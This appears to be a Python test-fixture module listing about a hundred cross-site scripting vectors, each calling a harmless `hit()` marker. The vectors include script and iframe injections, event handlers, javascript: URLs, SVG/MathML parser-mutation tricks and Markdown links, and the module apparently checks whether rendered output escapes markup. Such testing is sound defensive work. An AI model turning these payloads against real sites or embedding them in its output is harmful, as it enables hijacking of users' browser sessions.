"""Texts that run `hit()` if an output carries them as markup: as HTML, Markdown or a feed.

`make_vectors` numbers the calls, so that a browser can tell which of them ran.
"""

from __future__ import annotations

_ELEMENTS = """
<script>hit()</script>
<SCRIPT >hit()</SCRIPT >
<script/x>hit()</script>
<script src=data:text/javascript,hit()></script>
<script type=module>hit()</script>
<script>/*<!--*/hit()//--></script>
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit()//<</script>
<script>hit()
</title><script>hit()</script>
</textarea><script>hit()</script>
</style></noscript><script>hit()</script>
--><script>hit()</script><!--
<noscript><p title="</noscript><script>hit()</script>"></noscript>
<template><script>hit()</script></template>
<plaintext><script>hit()</script>
<xmp><script>hit()</script></xmp><script>hit()</script>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe src="javascript:parent.hit()"></iframe>
<iframe src=x onload=hit()></iframe>
<object data="data:text/html,<script>hit()</script>"></object>
<embed src="javascript:hit()">
<link rel=stylesheet href="data:text/css,*{}" onload=hit()>
<meta http-equiv=refresh content="0;url=javascript:hit()">
<base href="javascript:hit()//">
<style onload=hit()>*{color:red}</style>
<style>@import "javascript:hit()";</style>
<frameset onload=hit()><frame src="javascript:hit()"></frameset>
<applet code=x onerror=hit()></applet>
""".strip().splitlines()

_HANDLERS = """
<img src=x onerror=hit()>
<img src=x onerror="hit()"
<img/src=x/onerror=hit()>
<IMG SRC=x ONERROR=hit()>
<img src=x onerror&#61;hit()>
<image src=x onerror=hit()>
<body onload=hit()>
<body onpageshow=hit()>
<video><source onerror=hit()></video>
<video src=x onerror=hit()></video>
<audio src=x onerror=hit()></audio>
<input autofocus onfocus=hit()>
<select autofocus onfocus=hit()></select>
<textarea autofocus onfocus=hit()></textarea>
<button autofocus onfocus=hit()>x</button>
<details open ontoggle=hit()><summary>x</summary></details>
<marquee onstart=hit()>x</marquee>
<a onfocus=hit() autofocus href=x>x</a>
<p onmouseover=hit() style="position:fixed;inset:0">x</p>
<div style="animation:a 1s" onanimationstart=hit()><style>@keyframes a{}</style></div>
<p tabindex=1 autofocus onfocus=hit()>x</p>
<amp-img src=x onerror=hit()></amp-img>
" onmouseover=hit() x="
'><img src=x onerror=hit()>
"><img src=x onerror=hit()>
` onerror=hit() `
=""><img src=x onerror=hit()>
""".strip().splitlines()

_URLS = r"""
<a href="javascript:hit()">x</a>
<a href=" javascript:hit()">x</a>
<a href="JaVaScRiPt:hit()">x</a>
<a href="java&#x09;script:hit()">x</a>
<a href="java&NewLine;script:hit()">x</a>
<a href="&#1;javascript:hit()">x</a>
<a href="javascript&colon;hit()">x</a>
<a href="data:text/html,<script>hit()</script>">x</a>
<a href="vbscript:hit()">x</a>
<form action="javascript:hit()"><button>x</button></form>
<form><button formaction="javascript:hit()">x</button></form>
<math href="javascript:hit()">x</math>
<img src="javascript:hit()">
<img srcset="javascript:hit() 2x" src="">
<table background="javascript:hit()"><tr><td>x</table>
""".strip().splitlines()

_FOREIGN = """
<svg onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href=data:,hit() /></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>
<svg><set attributeName=href to="javascript:hit()"><a><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>
<svg></p><style><a id="</style><img src=x onerror=hit()>">
<math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><p id="</style><img onerror=hit() src>">
""".strip().splitlines()

_OTHERS = [
    "[x](javascript:hit())",
    "[x]( <javascript:hit()> )",
    "![x](javascript:hit())",
    "[x]: javascript:hit()\n\n[x]",
    "<javascript:hit()>",
    "```\n</code></pre><script>hit()</script>\n```",
    "]]><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml-stylesheet href='javascript:hit()'?><script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
]

VECTORS = (*_ELEMENTS, *_HANDLERS, *_URLS, *_FOREIGN, *_OTHERS)


def make_vectors() -> list[str]:
    """Return the vectors, each with a call of its own: `hit(0)`, `hit(1)` …"""
    return [vector.replace("hit()", f"hit({n})") for n, vector in enumerate(VECTORS)]
